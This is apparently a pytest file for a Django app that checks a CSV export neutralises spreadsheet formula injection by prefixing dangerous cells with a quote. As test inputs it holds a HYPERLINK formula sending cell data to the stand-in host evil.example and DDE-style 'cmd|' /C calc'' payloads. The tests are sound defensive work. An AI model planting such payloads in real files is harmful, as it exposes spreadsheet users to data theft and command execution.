"""CSV exports cannot carry a formula into a spreadsheet (tremplin.www.csv), the planning export first."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from tests.factories import UserFactory
from tests.planning.territory import SMALL_PLAN, load_small_territory
from tremplin.network.models import Site
from tremplin.planning import services
from tremplin.planning.services import PlanOptions, scenario_create
from tremplin.territories.models import Commune
from tremplin.www import csv as safe_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2;"Cliquer ici")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+33 6 11 22 33 44", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
)
def test_texts_a_spreadsheet_would_run_are_neutralised(text):
    assert safe_csv.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["LANNION PRINCIPAL", "Saint-Étienne", "a=b", "", "22"])
def test_ordinary_texts_are_unchanged(value):
    assert safe_csv.safe_cell(value) == value


def test_numbers_we_write_stay_numbers():
    assert safe_csv.safe_cell(-4) == -4
    assert safe_csv.safe_cell(-4.5) == -4.5
    assert safe_csv.safe_cell(Decimal("-0.25")) == Decimal("-0.25")
    assert safe_csv.safe_cell(None) == ""
    assert safe_csv.decimal(-4.486) == "-4,486000" and safe_csv.safe_cell(safe_csv.decimal(-4.486)) == "-4,486000"
    assert safe_csv.decimal(None) == ""
    # A text that looks like a negative number is still a text: neutralised.
    assert safe_csv.safe_cell("-4,486000") == "'-4,486000"


def test_writer_neutralises_every_cell():
    buffer = io.StringIO()
    writer = safe_csv.writer(buffer)
    writer.writerow(["nom", "valeur"])
    writer.writerows([[HYPERLINK, -3], ["@cmd", safe_csv.decimal(-1.5, places=1)]])
    assert buffer.getvalue() == (
        'nom;valeur\r\n"\'=HYPERLINK(""https://evil.example/?d=""&A2;""Cliquer ici"")";-3\r\n\'@cmd;-1,5\r\n'
    )


@pytest.mark.django_db
def test_planning_csv_neutralises_a_hostile_site_name(client, tmp_path):
    load_small_territory(tmp_path)
    # Names come from imported files (and the admin): a hostile one for every office and commune.
    Site.objects.update(name=HYPERLINK)
    Commune.objects.update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    manager = UserFactory(national=True)
    scenario = scenario_create(user=manager, name="Plan", options=PlanOptions(**SMALL_PLAN))
    services.scenario_run(scenario=scenario)
    Site.objects.update(longitude=-4.486)  # west of Greenwich, as in Brittany: a negative number
    client.force_login(manager)

    response = client.get(reverse("planning:export_csv", args=[scenario.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    offices = rows[1:]
    assert len(offices) == 4
    for row in offices:
        assert row[3] == "'" + HYPERLINK  # bureau
        assert row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"  # commune
        assert row[6] == "-4,486000"  # longitude: a number, as written
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
